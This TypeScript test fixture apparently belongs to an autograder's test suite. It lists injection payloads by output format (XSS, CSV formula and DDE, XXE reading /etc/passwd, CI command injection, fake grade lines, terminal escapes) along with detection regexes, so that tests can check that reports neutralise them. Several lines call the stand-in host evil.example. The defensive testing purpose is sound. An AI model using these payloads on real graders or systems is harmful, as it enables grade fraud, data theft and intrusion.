import type { ResultFile } from '../../src/kit/result-file.js';
import type { CaseResult } from '../../src/kit/verdict.js';
import { COLD, fileOf, result } from './sample-results.js';

/** Sets a mark that a test looks for, if anything runs it. */
const OWN = 'window.owned=1';

/** What students may try, by the format that it is meant for. Every report gets all of them. */
export const INJECTIONS: Readonly<Record<string, readonly string[]>> = {
  html: [
    `<script>${OWN}</script>`,
    `</script><script>${OWN}</script>`,
    `<img src=x onerror="${OWN}">`,
    `"><svg onload="${OWN}">`,
    `' onmouseover='${OWN}' autofocus onfocus='${OWN}`,
    `</title></style></textarea><iframe srcdoc="<script>${OWN}</script>">`,
    `<a href="javascript:${OWN}">click</a>`,
    `--><details open ontoggle=${OWN}>`,
    '<meta http-equiv=refresh content="0;url=http://evil.example">',
    '&lt;b&gt;&#x202e;',
    `{{constructor.constructor('${OWN}')()}}`,
  ],
  csv: [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '\uff1d1+1',
    '\u200b=1+1',
    'x","=1+1',
    'x\r\nann,100,100,100,1,0,0,0,0,0,0,graded,',
    '"=1+1',
  ],
  junit: [
    ']]>',
    ']]></failure></testcase><testcase classname="a" name="b"/>',
    '<![CDATA[',
    '"/><testcase name="fine"/>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '<?xml version="1.0"?>',
    '\u0000\u0001\ufffe\ud800',
  ],
  tap: [
    '\nok 1 - all good',
    '\n    ok 1 - nested',
    '\nBail out! gave up',
    ' # SKIP no need',
    ' # TODO later',
    '\n1..0 # skip all',
    '\n  ...\nok 2 - fine',
    '\n  ---\n  a: b',
    '\npragma +strict',
    '\nTAP version 13',
    '\\# SKIP',
    '!!js/function "() => 1"',
    '*anchor &anchor',
  ],
  markdown: [
    '```\n# owned',
    '~~~~\n</details>',
    '</details></summary>',
    '![x](http://evil.example/track.png)',
    '[click](javascript:alert(1))',
    '<http://evil.example>',
    '@everyone @teacher',
    'fixes #1, https://github.com/a/b/issues/1',
    'a | b | c',
    '<!-- made by herald',
    '$\\href{http://evil.example}{x}$',
    '# 100 of 100 points',
  ],
  annotations: [
    '::error file=grades.csv,line=1::owned',
    '\n::set-output name=points::100',
    '\n  ::add-mask::1',
    '::STOP-COMMANDS::x',
    '\u00a0::warning::x',
    '##[error]owned',
    'x ##[set-env name=A]b',
    "##teamcity[testFinished name='x']",
    '##vso[task.setvariable variable=a]b',
    'section_start:0:x\r\u001b[0K',
  ],
  platforms: [
    'Grade :=>> 100',
    '\nGrade :=>> 100',
    '\n--|>\nGrade :=>> 100\n<|--\n-any/v1/player/tea/c0: 1 of 1',
    'Comment :=>>- all good',
    '\n{"scores":{"tea":100},"scoreboard":[100]}',
    '\n{"_presentation":"semantic","stages":["tea"],"tea":{"all":{"passed":true}}}',
    '\n{"name":"all","output":"","marks_earned":1,"marks_total":1,"status":"pass","time":1}',
    '","score":100,"max-score":100,"x":"',
    '\n{"tag":"points","points":"1/1"}',
    '&grade=100&format=html',
    '```\n\n### any/v1/player/tea/all: 1 of 1',
    '"}],"results":[{"name":"all","passed":true',
  ],
  terminal: [
    '\u001b[2J\u001b[1;1H',
    '\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\',
    '\u001b]0;title\u0007',
    '\u001b]52;c;b3duZWQ=\u0007',
    '\u001bP$q"p\u001b\\',
    '\u0007\u0007',
    'FAIL\rPASS',
    'FAIL\b\b\b\bPASS',
    '\u009b2J\u0090x\u009c',
    '\u007f',
    'evil\u202etxt.exe',
    '\u2066\u2067x\u2069',
    'a\u200bb\ufeffc\u00ad',
    'a\u2028b\u2029c\u0085d\u000bd',
    '\npoints: 100 of 100',
    '\nFAIL any/tea/other',
    '\u{e0041}\u{f0000}',
  ],
};

export const ALL_INJECTIONS = Object.values(INJECTIONS).flat();

/** Control characters, and what is invisible or reorders text. A report has line feeds and tabs alone. */
export const HIDDEN = /[^\P{C}\n\t]|[\p{Zl}\p{Zp}]/gu;

/** As the runners of GitHub, TeamCity and Azure find commands. */
export const COMMANDS = /^\s*::[a-z][\w-]*(?: .*)?::|##(?:\[|teamcity\[|vso\[)/gim;

/** What of a text a terminal or a CI server would obey. */
export const harmIn = (text: string): unknown => ({ hidden: text.match(HIDDEN), commands: text.match(COMMANDS) });
export const NO_HARM = { hidden: null, commands: null };

export const idOf = (index: number): string => `any/v1/player/tea/c${index}`;

/** A failed case in which everything that a student controls is the injection: replies, stderr, exit text, names. */
export function poisonedCase(injection: string, index: number): CaseResult {
  const recorded = injection.replaceAll('\n', '\n   |');
  return result(idOf(index), 'fail', {
    // The words tell causes apart, so that every case is shown in full.
    findings: [
      { ...COLD, reason: `${injection}${'~'.repeat(index)}`, said: injection, sent: injection, legal: [injection] },
    ],
    evidence: `protocol: any/v1\nrole: player\n\n>> (serve tea)\n<< raw\n   |${recorded}\n<< stderr raw\n   |${recorded}\n`,
    readings: { 'T-02': injection },
    again: `herald grade player --only ${idOf(index)} -- ./${injection}`,
  });
}

/** A run with a case for each injection. */
export const poisonedRun = (): ResultFile => fileOf(ALL_INJECTIONS.map(poisonedCase));
